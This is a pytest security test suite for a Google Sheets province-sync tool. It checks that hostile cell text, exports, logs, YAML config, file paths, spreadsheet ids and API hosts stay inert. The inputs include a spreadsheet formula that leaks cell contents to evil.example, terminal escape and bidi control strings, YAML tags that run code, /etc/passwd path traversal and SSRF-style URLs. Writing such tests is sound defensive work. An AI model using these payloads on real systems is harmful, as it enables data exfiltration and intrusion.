"""Text that would like to be more than text is inert in sheets, exports, logs, terminals; settings lure us nowhere."""

from __future__ import annotations

import csv
import io
import logging
import unicodedata
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from config.load import load_configuration
from rules.declared.programme import Programme
from tests.end_to_end.world import DELIVERY, FORUM, GROUPS, PLAN, RESULTS, World, small_world
from tests.templates import Templates

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "'=")
OUR_LINKS = ("https://docs.google.com/spreadsheets/d/", "#gid=")  # to cells of workbooks, and of the same one
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"กดที่นี่")'
TABS = {"groups": GROUPS, "forum": FORUM, "plan": PLAN, "results": RESULTS, "delivery": DELIVERY}
CONTROL = "\x1b]0;owned\x07\x1b[31mแดง\x1b[2J\x08\x9b1A\u202eกลับ"
COMMANDS = (
    ("sync", "--full"),
    ("plan", "--full"),
    ("status",),
    ("status", "--province", "83"),
    ("explain", "83", "groups"),
    ("explain", "83", "groups", "2"),
    ("explain", "83", "forum", "2"),
    ("status", "--as-of", "2563-08-15"),
    ("doctor",),
)


@pytest.fixture
def world(templates: Templates, tmp_path: Path) -> Iterator[World]:
    """Two provinces."""
    with small_world(templates, tmp_path, ("50", "83")) as made:
        yield made


@pytest.fixture(scope="module")
def kept_world(templates: Templates, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """Two provinces, for tests that put back what they change."""
    with small_world(templates, tmp_path_factory.mktemp("kept"), ("50", "83")) as made:
        yield made


@contextmanager
def changed(path: Path, text: str) -> Iterator[None]:
    """The file with another text meanwhile."""
    before = path.read_text(encoding="utf-8")
    path.write_text(text, encoding="utf-8")
    try:
        yield
    finally:
        path.write_text(before, encoding="utf-8")


def programme_of(world: World) -> Programme:
    """The programme with the world's ids."""
    return load_configuration(world.config, world.environment).programme


def type_raw(world: World, of: str, place: str, rows: list[list[Any]]) -> None:
    """Put text in as it is: nothing of it is taken for a formula on entry."""
    path = f"/v4/spreadsheets/{world.ids()[of]}/values/{place}?valueInputOption=RAW"
    world.call("PUT", path, {"values": rows})


def fill_every_column(world: World, texts: tuple[str, ...]) -> None:
    """A row per text in each of Phuket's tabs, the text in every column."""
    for report in programme_of(world).reports:
        rows = [[text] * len(report.columns) for text in texts]
        type_raw(world, "83", f"'{TABS[report.id]}'!C2", rows)


def entered_cells(world: World, of: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Every cell that holds something, as entered: (tab, cell)."""
    of_cell = "userEnteredValue,textFormatRuns,userEnteredFormat.textFormat,hyperlink"
    fields = f"sheets(properties.title,data.rowData.values({of_cell}))"
    path = f"/v4/spreadsheets/{world.ids()[of]}?includeGridData=true&fields={fields}"
    for sheet in world.call("GET", path, None)["sheets"]:
        for row in sheet.get("data", [{}])[0].get("rowData", ()):
            for cell in row.get("values", ()):
                if "userEnteredValue" in cell:
                    yield sheet["properties"]["title"], cell


def links_in(cell: dict[str, Any]) -> list[str]:
    """Every address that a cell leads to."""
    formats = [cell.get("userEnteredFormat", {}), *(run.get("format", {}) for run in cell.get("textFormatRuns", ()))]
    texts = [each.get("textFormat", each) for each in formats]
    return [text["link"]["uri"] for text in texts if "link" in text] + (
        [cell["hyperlink"]] if "hyperlink" in cell else []
    )


def test_no_text_of_theirs_becomes_a_formula_or_a_link_anywhere(world: World) -> None:
    fill_every_column(world, tuple(trigger + PAYLOAD for trigger in TRIGGERS))
    world.sync()
    world.sync("--full")
    seen = ""
    for of in ("central", "83"):
        for tab, cell in entered_cells(world, of):
            assert "formulaValue" not in cell["userEnteredValue"], (of, tab, cell)
            assert all(link.startswith(OUR_LINKS) for link in links_in(cell)), cell
            seen += str(cell["userEnteredValue"].get("stringValue", ""))
    assert "=" + PAYLOAD in seen


def test_what_stands_in_the_central_workbook_is_no_formula_where_it_is_copied_to_and_turns_no_screen(
    world: World,
) -> None:
    fill_every_column(world, (*(trigger + PAYLOAD for trigger in TRIGGERS), CONTROL))
    world.sync()
    world.sync("--full")
    texts = [str(cell["userEnteredValue"].get("stringValue", "")) for _, cell in entered_cells(world, "central")]
    assert any(f"'={PAYLOAD}" in text for text in texts)
    assert [text for text in texts if text.startswith(("=", "+", "@", "-")) and text != "-"] == []
    assert [text for text in texts if any(unicodedata.category(c) == "Cc" and c not in "\n\t" for c in text)] == []
    assert [text for text in texts if "\u202e" in text] == []
    assert world.cli("plan", "--full", "--json").json["central_planned"] == []


def test_a_pass_over_hostile_text_comes_to_rest(world: World) -> None:
    fill_every_column(world, tuple(trigger + PAYLOAD for trigger in TRIGGERS))
    world.sync()
    world.sync("--full")
    assert world.sync("--full")["cells"]["written"] == 0
    assert world.cli("plan", "--full", "--json").json["cells_planned"] == []


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exports_hold_no_formula(world: World, tmp_path: Path, kind: str) -> None:
    fill_every_column(world, tuple(trigger + PAYLOAD for trigger in TRIGGERS))
    world.sync()
    target = tmp_path / f"out.{kind}"
    assert world.cli("export", "--to", str(target)).exit_code == 0
    if kind == "csv":
        files = sorted(tmp_path.glob("out-*.csv"))
        assert len(files) == len(TABS)
        texts = [path.read_bytes().decode("utf-8-sig") for path in files]
        cells = [cell for text in texts for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))] == []
        assert any(PAYLOAD in cell for cell in cells)
    else:
        with zipfile.ZipFile(target) as book:
            sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
            assert "evil.example" in book.read("xl/sharedStrings.xml").decode()
            assert not any("rels" in name and "worksheets" in name for name in book.namelist())
        assert all("<f>" not in sheet and "<f " not in sheet and "hyperlink" not in sheet for sheet in sheets)


def test_the_terminal_and_the_logs_get_no_control_characters(world: World, caplog: pytest.LogCaptureFixture) -> None:
    fill_every_column(world, (CONTROL,))
    type_raw(world, "83", f"'{GROUPS}'!D1", [["ชื่อ" + CONTROL]])
    type_raw(world, "83", f"'{GROUPS}'!A2", [[CONTROL]])
    with caplog.at_level(logging.DEBUG):
        for words in COMMANDS:
            answer = world.cli(*words)
            assert answer.exit_code in (0, 1), (words, answer)
            for line in (answer.stdout + answer.stderr + caplog.text).split("\n"):
                harmful = [c for c in line if c != "\t" and (unicodedata.category(c) == "Cc" or c == "\u202e")]
                assert harmful == [], (words, line)


def test_a_tab_named_to_harm_is_only_a_name(world: World) -> None:
    sheet = {"sheetId": world.sheet_id("83", GROUPS), "title": "='x" + CONTROL[:12].replace("\x1b", "") + "'!A1"}
    world.batch_update("83", {"updateSheetProperties": {"properties": sheet, "fields": "title"}})
    type_raw(world, "83", f"'{FORUM}'!C2", [["83-999"]])
    assert world.sync("--full")["failed"] == []
    assert all("formulaValue" not in cell["userEnteredValue"] for _, cell in entered_cells(world, "central"))


def test_yaml_that_would_run_something_is_refused_and_runs_nothing(world: World, tmp_path: Path) -> None:
    made = tmp_path / "made"
    for name in ("settings.yaml", "programmes/village-sages-2563.yaml"):
        path = world.config / name
        good = path.read_text(encoding="utf-8")
        for tag in (f"!!python/object/apply:os.mkdir ['{made}']", f"!!python/object/new:pathlib.Path ['{made}']"):
            path.write_text(good + f"\nlure: {tag}\n", encoding="utf-8")
            assert world.cli("check-config").exit_code == 2
        path.write_text(good, encoding="utf-8")
    assert not made.exists()


@pytest.mark.parametrize("name", ["../../../../etc/passwd", "/etc/passwd", "..", "a/../../b", "x\x00y"])
def test_a_programme_is_never_read_from_elsewhere(kept_world: World, name: str) -> None:
    settings = kept_world.config / "settings.yaml"
    text = settings.read_text(encoding="utf-8").replace("programme: village-sages-2563", f'programme: "{name}"')
    with changed(settings, text.replace("\x00", "\\0")):
        answer = kept_world.cli("check-config")
    assert answer.exit_code == 2
    assert "root:" not in answer.stdout + answer.stderr


LURING_IDS = (
    "../../drive/v3/about", "x/values/A1?key=", "https://evil.example/", "..", "a b", "id#", "id%2F..", "@evil.example",
)  # fmt: skip


@pytest.mark.parametrize("luring", LURING_IDS)
def test_a_spreadsheet_id_is_nothing_but_an_id(kept_world: World, luring: str) -> None:
    ids = kept_world.directory / "ids.csv"
    with changed(ids, ids.read_text(encoding="utf-8").replace(kept_world.ids()["83"], luring)):
        answer = kept_world.cli("sync")
    assert answer.exit_code == 2
    assert "ids.csv" in answer.stderr
    assert kept_world.cli("adopt", luring, "--province", "83", "--yes").exit_code == 2


@pytest.mark.parametrize(
    "address",
    ["http://evil.example", "http://127.0.0.1@evil.example", "http://localhost.evil.example", "http://127.0.0.1.nip.io",
     "file:///etc/passwd", "http://user:secret@127.0.0.1", "http://127.0.0.1/../x", "ftp://127.0.0.1"],
)  # fmt: skip
def test_no_other_host_stands_in_for_google(kept_world: World, address: str) -> None:
    answer = kept_world.cli("sync", environment={"SONGTHAN_SHEETS_URL": address})
    assert answer.exit_code == 2
    assert answer.stderr.strip()
